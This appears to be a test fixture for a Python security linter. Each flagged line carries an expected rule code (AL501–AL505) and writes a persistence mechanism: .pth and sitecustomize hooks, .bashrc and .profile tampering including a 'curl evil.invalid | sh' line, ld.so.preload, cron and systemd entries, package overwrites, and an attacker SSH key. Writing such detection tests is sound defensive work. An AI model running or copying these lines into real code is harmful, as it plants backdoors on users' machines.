import os
import site
import shutil
import sysconfig
import subprocess
import requests
from pathlib import Path

sp = site.getsitepackages()[0]
with open(os.path.join(sp, "zzz_hook.pth"), "w") as f:  # want: AL501
    f.write("import os; os.system('id')\n")
open(sysconfig.get_paths()["purelib"] + "/sitecustomize.py", "a").write("print(1)")  # want: AL501
Path(site.getusersitepackages(), "usercustomize.py").write_text("import x")  # want: AL501
with open(os.path.expanduser("~/.bashrc"), "a") as rc:  # want: AL502
    rc.write("export PATH=/tmp/evil:$PATH\n")
Path.home().joinpath(".profile").open("a").write("alias sudo=evil\n")  # want: AL502
os.system("echo 'curl evil.invalid | sh' >> ~/.bashrc")  # want: AL502
open("/etc/ld.so.preload", "w").write("/tmp/evil.so")  # want: AL502
open("/etc/cron.d/update", "w").write("* * * * * root /tmp/x\n")  # want: AL503
subprocess.run("(crontab -l; echo '@reboot /tmp/x') | crontab -", shell=True)  # want: AL503
Path.home().joinpath(".config/systemd/user/evil.service").write_text("[Service]\n")  # want: AL503
shutil.copy("evil.py", os.path.join(sp, "requests", "__init__.py"))  # want: AL504
shutil.copy("evil.py", os.path.dirname(requests.__file__) + "/api.py")  # want: AL504
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as k:  # want: AL505
    k.write("ssh-ed25519 AAAA attacker\n")
os.system("cp evil.pth /usr/lib/python3/dist-packages/")  # want: AL504

# Writing our own files is fine.
here = os.path.dirname(__file__)
with open(os.path.join(here, "cache.json"), "w") as own:
    own.write("{}")
open("/tmp/output.txt", "w").write("ok")
